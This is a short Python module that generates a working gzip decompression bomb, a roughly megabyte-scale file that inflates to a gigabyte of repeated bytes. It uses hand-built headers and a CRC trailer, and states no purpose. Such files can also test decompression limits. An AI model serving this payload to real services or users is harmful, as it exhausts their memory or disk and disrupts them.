"""Bomb: a small gzip file that inflates to a thousand times as much."""

from __future__ import annotations

import zlib
from functools import cache
from typing import Final

MIB: Final = 1024 * 1024
BOMB_MIB: Final = 1024
"""What the bomb inflates to."""


@cache
def bomb(mib: int = BOMB_MIB) -> tuple[bytes, ...]:
    """A gzip file, in pieces, that inflates to so much of one letter; see RFC 1952."""
    block = b"a" * MIB
    deflate = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    # A full flush makes each block independent of what came before, so that one is all of them.
    repeated = deflate.compress(block) + deflate.flush(zlib.Z_FULL_FLUSH)
    last = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS).flush()
    check = 0
    for _ in range(mib):
        check = zlib.crc32(block, check)
    end = check.to_bytes(4, "little") + (mib * MIB % 2**32).to_bytes(4, "little")
    return b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x02\xff", *[repeated] * mib, last, end
